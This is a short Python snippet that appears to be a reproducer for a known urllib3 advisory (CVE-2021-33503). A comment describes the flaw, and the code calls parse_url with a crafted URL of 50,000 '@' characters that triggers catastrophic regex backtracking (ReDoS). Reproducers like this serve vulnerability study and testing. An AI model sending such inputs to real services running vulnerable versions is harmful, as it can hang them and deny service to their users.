# PYSEC-2021-108 (CVE-2021-33503): urllib3 before 1.26.5, a URL whose authority holds many '@' characters makes
# the authority regex backtrack catastrophically (ReDoS) in parse_url.
from urllib3.util.url import parse_url

parse_url("https://" + "@" * 50000 + "[")
